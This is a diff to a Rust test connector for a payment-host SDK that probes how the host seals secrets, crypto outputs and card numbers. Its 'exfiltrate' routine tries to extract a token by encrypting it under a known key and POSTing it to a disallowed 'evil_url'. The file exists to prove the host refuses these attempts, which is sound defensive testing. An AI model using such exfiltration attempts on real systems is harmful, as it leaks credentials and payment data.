@@ -1,12 +1,19 @@
 //! A test connector: each payment's `action` attribute picks what it does,
 //! from an honest HTTP round trip to an infinite loop. The integration tests
 //! drive it to prove what the host allows and refuses.
+//!
+//! Whatever crypto computes from a secret comes back sealed: the probe
+//! reports `sealed` for it and, when the payment has a `url` attribute,
+//! sends the sealed values there (headers, query, JSON body) so that the
+//! test can check them where the host wrote them.
 
-use payhost_sdk::http::{HttpError, Request};
+use payhost_sdk::crypto::Output;
+use payhost_sdk::http::{HttpError, Method, Request};
+use payhost_sdk::json::Json;
 use payhost_sdk::xml::Element;
 use payhost_sdk::{
-    Connector, ConnectorError, ConnectorInfo, ErrorKind, MethodKind, Parts, PaymentOutcome,
-    PaymentRequest, SecretEncoding, clock, config, crypto, json, log, register_connector,
+    Connector, ConnectorError, ConnectorInfo, Encoding, ErrorKind, MethodKind, Parts,
+    PaymentOutcome, PaymentRequest, Sealed, clock, config, crypto, json, log, register_connector,
 };
 
 struct Probe;
@@ -29,53 +36,81 @@ fn report(result: Result<payhost_sdk::http::Response, HttpError>) -> PaymentOutc
     }
 }
 
-fn crypto_text(r: Result<Vec<u8>, crypto::CryptoError>) -> String {
+/// `sealed`, the bytes in hex, or `denied: …` / `invalid: …`.
+fn crypto_text(r: &Result<Output, crypto::CryptoError>) -> String {
     match r {
-        Ok(bytes) => crypto::hex(&bytes),
+        Ok(Output::Bytes(bytes)) => crypto::hex(bytes),
+        Ok(Output::Sealed(_)) => "sealed".to_owned(),
         Err(crypto::CryptoError::Denied(m)) => format!("denied: {m}"),
         Err(crypto::CryptoError::Invalid(m)) => format!("invalid: {m}"),
     }
 }
 
-fn vectors() -> PaymentOutcome {
+/// The sealed value of a crypto result, if it is one.
+fn sealed(r: &Result<Output, crypto::CryptoError>) -> Option<&Sealed> {
+    match r {
+        Ok(Output::Sealed(s)) => Some(s),
+        _ => None,
+    }
+}
+
+/// `status N`, or the HTTP error's kind.
+fn sent(r: Result<payhost_sdk::http::Response, HttpError>) -> String {
+    match r {
+        Ok(r) => format!("status {}", r.status),
+        Err(e) => e.kind().to_owned(),
+    }
+}
+
+fn vectors(request: &PaymentRequest) -> PaymentOutcome {
     let text = |s: &str| Parts::new().text(s);
-    let secret = |n: &str| Parts::new().secret(n, SecretEncoding::Raw);
+    let secret = |n: &str| Parts::new().secret(n, Encoding::Raw);
     let aes = crypto::aes256_cbc_encrypt(
         &secret("aes_key"),
         &[0; 16],
         &text("ctPJAIdxUA3ptaWC&1500375695.65"),
-    )
-    .map(|c| crypto::base64_encode(&c))
-    .unwrap_or_else(|e| e.message().to_owned());
+    );
     let roundtrip = crypto::aes256_cbc_encrypt(
         &text("0123456789abcdef0123456789abcdef"),
         &[7; 16],
         &text("round trip"),
     )
-    .and_then(|c| {
-        crypto::aes256_cbc_decrypt(&text("0123456789abcdef0123456789abcdef"), &[7; 16], &c)
+    .and_then(|c| match c {
+        Output::Bytes(c) => crypto::aes256_cbc_decrypt(
+            &text("0123456789abcdef0123456789abcdef"),
+            &[7; 16],
+            &Parts::new().bytes(c),
+        ),
+        sealed => Ok(sealed),
     })
-    .map(|p| String::from_utf8_lossy(&p).into_owned())
+    .map(|p| match p {
+        Output::Bytes(p) => String::from_utf8_lossy(&p).into_owned(),
+        Output::Sealed(_) => "sealed".to_owned(),
+    })
     .unwrap_or_else(|e| e.message().to_owned());
-    PaymentOutcome::succeeded()
-        .detail("md5-abc", crypto_text(crypto::md5(&text("abc"))))
-        .detail(
-            "md5-nemo",
-            crypto_text(crypto::md5(&text("263330").append(secret("nemo_key")))),
-        )
-        .detail("sha256-abc", crypto_text(crypto::sha256(&text("abc"))))
+    let md5_nemo = crypto::md5(&text("263330").append(secret("nemo_key")));
+    let hmac_secret = crypto::hmac_sha256(&secret("hmac_key"), &text("data"));
+    // A hash of a sealed value (the Nemo MD5 written as hex) is sealed too.
+    let md5_of_sealed = match sealed(&md5_nemo) {
+        Some(s) => crypto::md5(&Parts::new().sealed(s, Encoding::Hex)),
+        None => Err(crypto::CryptoError::Invalid(
+            "md5-nemo is not sealed".into(),
+        )),
+    };
+    let mut outcome = PaymentOutcome::succeeded()
+        .detail("md5-abc", crypto_text(&crypto::md5(&text("abc"))))
+        .detail("md5-nemo", crypto_text(&md5_nemo))
+        .detail("md5-of-sealed", crypto_text(&md5_of_sealed))
+        .detail("sha256-abc", crypto_text(&crypto::sha256(&text("abc"))))
         .detail(
             "hmac-jefe",
-            crypto_text(crypto::hmac_sha256(
+            crypto_text(&crypto::hmac_sha256(
                 &text("Jefe"),
                 &text("what do ya want for nothing?"),
             )),
         )
-        .detail(
-            "hmac-secret-key",
-            crypto_text(crypto::hmac_sha256(&secret("hmac_key"), &text("data"))),
-        )
-        .detail("aes-aerohub", aes)
+        .detail("hmac-secret-key", crypto_text(&hmac_secret))
+        .detail("aes-aerohub", crypto_text(&aes))
         .detail("aes-roundtrip", roundtrip)
         .detail("base64", crypto::base64_encode(b"payhost"))
         .detail(
@@ -84,7 +119,7 @@ fn vectors() -> PaymentOutcome {
         )
         .detail(
             "aes-short-key",
-            crypto_text(crypto::aes256_cbc_encrypt(
+            crypto_text(&crypto::aes256_cbc_encrypt(
                 &text("short"),
                 &[0; 16],
                 &text("x"),
@@ -92,44 +127,172 @@ fn vectors() -> PaymentOutcome {
         )
         .detail(
             "unknown-secret",
-            crypto_text(crypto::md5(&secret("not_granted"))),
-        )
+            crypto_text(&crypto::md5(&secret("not_granted"))),
+        );
+    // The sealed results, written by the host where the test can read them.
+    if let Some(url) = request.attribute("url") {
+        let mut out = Request::post(url);
+        let mut body = Json::object();
+        for (name, result, encoding) in [
+            ("md5-nemo", &md5_nemo, Encoding::Hex),
+            ("md5-of-sealed", &md5_of_sealed, Encoding::Hex),
+            ("hmac-secret-key", &hmac_secret, Encoding::Hex),
+            ("aes-aerohub", &aes, Encoding::Base64),
+        ] {
+            if let Some(value) = sealed(result) {
+                out = out.header(format!("x-{name}"), Parts::new().sealed(value, encoding));
+                body.insert(name, Json::sealed_string(value, encoding));
+            }
+        }
+        if let Some(value) = sealed(&md5_nemo) {
+            out = out.query_sealed("md5-nemo", value, Encoding::Hex);
+        }
+        outcome = outcome.detail("sealed-sent", sent(out.json(body).send()));
+    }
+    outcome
 }
 
 /// Every way a connector might try to get a secret's value out.
 fn exfiltrate(request: &PaymentRequest) -> PaymentOutcome {
-    let token = || Parts::new().secret("token", SecretEncoding::Raw);
+    let token = || Parts::new().secret("token", Encoding::Raw);
     let own_key = Parts::new().text("0123456789abcdef0123456789abcdef");
     let mut outcome = PaymentOutcome::succeeded();
-    // 1. Encrypt it under a key we know, to decrypt it ourselves.
+    // 1. Encrypt it under a key we know, to decrypt it ourselves: sealed.
     let encrypted = crypto::aes256_cbc_encrypt(&own_key, &[0; 16], &token());
-    outcome = outcome.detail("encrypt-under-own-key", crypto_text(encrypted));
-    // 2. Decrypt something with it as the key: yields only noise.
-    let decrypted = crypto::aes256_cbc_decrypt(&token(), &[0; 16], &[0; 16]);
+    outcome = outcome.detail("encrypt-under-own-key", crypto_text(&encrypted));
+    // 2. Decrypt that ciphertext under our own key: the plaintext must stay
+    //    sealed (bytes here would be the secret itself).
+    if let Some(ciphertext) = sealed(&encrypted) {
+        let decrypted = crypto::aes256_cbc_decrypt(
+            &own_key,
+            &[0; 16],
+            &Parts::new().sealed(ciphertext, Encoding::Raw),
+        );
+        outcome = outcome.detail("decrypt-own-ciphertext", crypto_text(&decrypted));
+    }
+    // 3. Decrypt something with it as the key: sealed.
+    let decrypted = crypto::aes256_cbc_decrypt(&token(), &[0; 16], &Parts::new().bytes([0; 16]));
     outcome = outcome.detail(
         "decrypt-with-secret-key",
-        crypto_text(decrypted).chars().take(7).collect::<String>(),
+        crypto_text(&decrypted).chars().take(7).collect::<String>(),
     );
-    // 3. Send it to a host that is not allowed.
+    // 4. Send it, and what was sealed from it, to a host that is not allowed.
     if let Some(url) = request.attribute("evil_url") {
-        let sent = Request::post(url)
+        let mut evil = Request::post(url)
+            .query_secret("token", "token", Encoding::UrlComponent)
             .header("x-stolen", token())
-            .body(token())
-            .send();
+            .body(token());
+        if let Some(ciphertext) = sealed(&encrypted) {
+            evil = evil.header(
+                "x-sealed",
+                Parts::new().sealed(ciphertext, Encoding::Base64),
+            );
+        }
+        let sent = evil.send();
         outcome = outcome.detail(
             "send-to-evil",
             sent.err().map(|e| http_error(&e).0).unwrap_or("sent"),
         );
     }
-    // 4. Ask for it in the URL: not possible, URLs are plain strings.
-    // 5. Log it, print it, return it: the connector only holds the name.
+    // 5. Log it, print it, return it: the connector only holds the name and
+    //    a sealed handle.
     log::event(
         log::Level::Warn,
         "trying to log the secret",
         &[("token", "token")],
     );
-    println!("printing the secret: {:?}", token());
-    outcome.detail("returned", format!("{:?}", token()))
+    let held = sealed(&encrypted)
+        .map(|s| format!("{s:?}"))
+        .unwrap_or_default();
+    println!("printing the secret: {:?} {held}", token());
+    outcome.detail("returned", format!("{:?} {held}", token()))
+}
+
+/// Where a secret or a sealed value may stand in a URL: each attempt goes
+/// to `url` (an allowed origin) and reports `status N` or the error kind.
+fn url_parts(url: &str) -> PaymentOutcome {
+    let sig = crypto::md5(
+        &Parts::new()
+            .text("263330")
+            .secret("nemo_key", Encoding::Raw),
+    );
+    let Some(sig) = sealed(&sig) else {
+        return PaymentOutcome::failed(ConnectorError::new(
+            ErrorKind::InvalidRequest,
+            format!("md5 over a secret: {}", crypto_text(&sig)),
+        ));
+    };
+    let mut outcome = PaymentOutcome::succeeded();
+    // Allowed: in the query, with a URL-safe encoding.
+    outcome = outcome.detail(
+        "sealed-in-query",
+        sent(
+            Request::get(url)
+                .query_sealed("sig", sig, Encoding::Hex)
+                .send(),
+        ),
+    );
+    outcome = outcome.detail(
+        "secret-in-query",
+        sent(
+            Request::get(url)
+                .query_secret("token", "token", Encoding::UrlComponent)
+                .send(),
+        ),
+    );
+    // Refused: before the `?`, or an encoding that is not URL-safe.
+    let in_path = |part: Parts| {
+        sent(
+            Request::new(
+                Method::Get,
+                Parts::new()
+                    .text(format!("{}/", url.trim_end_matches('/')))
+                    .append(part),
+            )
+            .send(),
+        )
+    };
+    outcome = outcome.detail(
+        "secret-in-path",
+        in_path(Parts::new().secret("token", Encoding::UrlComponent)),
+    );
+    outcome = outcome.detail(
+        "sealed-in-path",
+        in_path(Parts::new().sealed(sig, Encoding::Hex)),
+    );
+    outcome = outcome.detail(
+        "secret-raw-in-query",
+        sent(
+            Request::get(url)
+                .query_secret("token", "token", Encoding::Raw)
+                .send(),
+        ),
+    );
+    outcome = outcome.detail(
+        "sealed-raw-in-query",
+        sent(
+            Request::get(url)
+                .query_sealed("sig", sig, Encoding::Raw)
+                .send(),
+        ),
+    );
+    // A signature in a header needs a header-safe encoding too.
+    outcome = outcome.detail(
+        "sealed-raw-in-header",
+        sent(
+            Request::get(url)
+                .header("x-sig", Parts::new().sealed(sig, Encoding::Raw))
+                .send(),
+        ),
+    );
+    outcome.detail(
+        "sealed-hex-in-header",
+        sent(
+            Request::get(url)
+                .header("x-sig", Parts::new().sealed(sig, Encoding::Hex))
+                .send(),
+        ),
+    )
 }
 
 impl Connector for Probe {
@@ -149,27 +312,21 @@ impl Connector for Probe {
             .unwrap_or_else(|| format!("{base}/echo"));
         match request.attribute("action").unwrap_or("roundtrip") {
             "roundtrip" => {
-                let body = serde_json::json!({
+                let body = Json::from(serde_json::json!({
                     "order": request.order_id,
                     "amount": json::decimal(&request.amount.amount),
-                    "token": json::secret("token"),
-                });
-                let sent = Request::post(&url)
-                    .header("x-plain", "hello")
-                    .header(
-                        "x-token",
-                        Parts::new()
-                            .text("Bearer ")
-                            .secret("token", SecretEncoding::Raw),
-                    )
-                    .json(&body)
-                    .map_err(|e| e.message);
-                match sent {
-                    Ok(r) => report(r.send()),
-                    Err(e) => {
-                        PaymentOutcome::failed(ConnectorError::new(ErrorKind::InvalidRequest, e))
-                    }
-                }
+                }))
+                .set("token", Json::secret("token"));
+                report(
+                    Request::post(&url)
+                        .header("x-plain", "hello")
+                        .header(
+                            "x-token",
+                            Parts::new().text("Bearer ").secret("token", Encoding::Raw),
+                        )
+                        .json(body)
+                        .send(),
+                )
             }
             "xml" => {
                 let body = Element::new("soapenv:Envelope")
@@ -212,8 +369,9 @@ impl Connector for Probe {
                 let _ = Request::get(&url).send();
                 panic!("trapping after a request left");
             }
-            "crypto" => vectors(),
+            "crypto" => vectors(&request),
             "exfiltrate" => exfiltrate(&request),
+            "url-parts" => url_parts(&url),
             "config" => config::all()
                 .into_iter()
                 .fold(PaymentOutcome::succeeded(), |o, (k, v)| o.detail(k, v)),
@@ -240,15 +398,41 @@ impl Connector for Probe {
             }
             "trap" => panic!("the probe was told to trap"),
             "card-echo" => {
-                let number = match &request.method {
-                    payhost_sdk::PaymentMethod::Card(c) => c.number.clone(),
-                    _ => String::new(),
+                // The number and the CVV are sealed: what the probe can log,
+                // print and return is `Sealed(..)` and the clear fields.
+                let card = match &request.method {
+                    payhost_sdk::PaymentMethod::Card(c)
+                    | payhost_sdk::PaymentMethod::MerchantOfRecord(c) => Some(c),
+                    _ => None,
                 };
-                log::info(&format!("paying with card {number}"));
-                println!("stdout card {number}");
-                PaymentOutcome::succeeded()
-                    .reference(format!("ref-{number}"))
-                    .detail("card", number)
+                let number = card.map(|c| format!("{:?}", c.number)).unwrap_or_default();
+                let cvv = card.map(|c| format!("{:?}", c.cvv)).unwrap_or_default();
+                let last_four = card.map(|c| c.last_four.as_str()).unwrap_or_default();
+                log::info(&format!("paying with card {number} cvv {cvv}"));
+                println!("stdout card {number} cvv {cvv}");
+                let mut outcome = PaymentOutcome::succeeded()
+                    .reference(format!("ref-{last_four}"))
+                    .detail("card", number);
+                if let Some(c) = card {
+                    outcome = outcome
+                        .detail("brand", format!("{:?}", c.brand))
+                        .detail("last-four", c.last_four.as_str());
+                    // Sent where the payment says, the host writes them.
+                    if let Some(to) = request.attribute("url") {
+                        let body = Json::object()
+                            .set("number", Json::sealed(&c.number))
+                            .set("cvv", c.cvv.as_ref().map(Json::sealed));
+                        let mut out = Request::post(to).header(
+                            "x-card-number",
+                            Parts::new().sealed(&c.number, Encoding::Raw),
+                        );
+                        if let Some(cvv) = &c.cvv {
+                            out = out.header("x-card-cvv", Parts::new().sealed(cvv, Encoding::Raw));
+                        }
+                        outcome = outcome.detail("card-sent", sent(out.json(body).send()));
+                    }
+                }
+                outcome
             }
             "lie" => {
                 // Past the SDK's check, straight into the record.
